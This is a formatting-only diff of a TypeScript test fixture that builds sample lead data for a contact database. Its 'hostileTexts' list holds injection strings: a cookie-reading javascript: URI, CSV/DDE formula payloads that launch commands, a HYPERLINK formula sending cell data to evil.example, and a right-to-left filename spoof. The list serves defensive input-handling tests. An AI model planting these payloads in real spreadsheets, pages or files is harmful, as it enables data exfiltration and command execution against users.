@@ -31,9 +31,9 @@ export const hostileTexts: readonly string[] = [
   'command:workbench.action.quit',
   'javascript:alert(document.cookie)',
   '=HYPERLINK("https://evil.example/?"&A1,"Invoice")',
-  '+1+cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   'invoice\u202Egpj.exe',
@@ -67,7 +67,11 @@ const manyProperties = (startedAt: number): SampleProps => {
   }
   for (let index = Object.keys(props).length; index < 1000; index++) {
     props[`custom_${String(index).padStart(4, '0')}`] = [
-      index, `value ${index}`, index % 2 === 0, toDateTime(startedAt - index * day), [`item ${index}`, 'second'],
+      index,
+      `value ${index}`,
+      index % 2 === 0,
+      toDateTime(startedAt - index * day),
+      [`item ${index}`, 'second'],
     ][index % 5] as SampleValue;
   }
   return props;
@@ -101,13 +105,23 @@ export function specialLeads(startedAt: number): readonly SpecialLead[] {
       about: 'long name',
       presence: offline,
       props: {
-        $name: 'Pablo Diego José Francisco de Paula Juan Nepomuceno María de los Remedios Cipriano de la Santísima Trinidad Ruiz y Picasso, called by everybody at the office simply “the one with the very long name in the lead database”',
-        $email: 'a.very.long.address.that.nobody.would.ever.type.twice.on.a.telephone@a-long-label.another-long-label.example.org',
+        $name:
+          'Pablo Diego José Francisco de Paula Juan Nepomuceno María de los Remedios Cipriano de la Santísima Trinidad Ruiz y Picasso, called by everybody at the office simply “the one with the very long name in the lead database”',
+        $email:
+          'a.very.long.address.that.nobody.would.ever.type.twice.on.a.telephone@a-long-label.another-long-label.example.org',
         $last_seen: ago(3 * hour),
       },
     },
-    { about: 'emoji name', presence: 'idle', props: { $name: '👩‍👩‍👧‍👦🏳️‍🌈✌🏽', $email: 'emoji@example.com', $last_seen: ago(4 * minute) } },
-    { about: 'right-to-left name', presence: offline, props: { $name: 'عبد الرحمن بن خالد (Abd) 123', $phone: '+20100200300', $last_seen: ago(5 * hour) } },
+    {
+      about: 'emoji name',
+      presence: 'idle',
+      props: { $name: '👩‍👩‍👧‍👦🏳️‍🌈✌🏽', $email: 'emoji@example.com', $last_seen: ago(4 * minute) },
+    },
+    {
+      about: 'right-to-left name',
+      presence: offline,
+      props: { $name: 'عبد الرحمن بن خالد (Abd) 123', $phone: '+20100200300', $last_seen: ago(5 * hour) },
+    },
     {
       about: 'odd values',
       presence: offline,
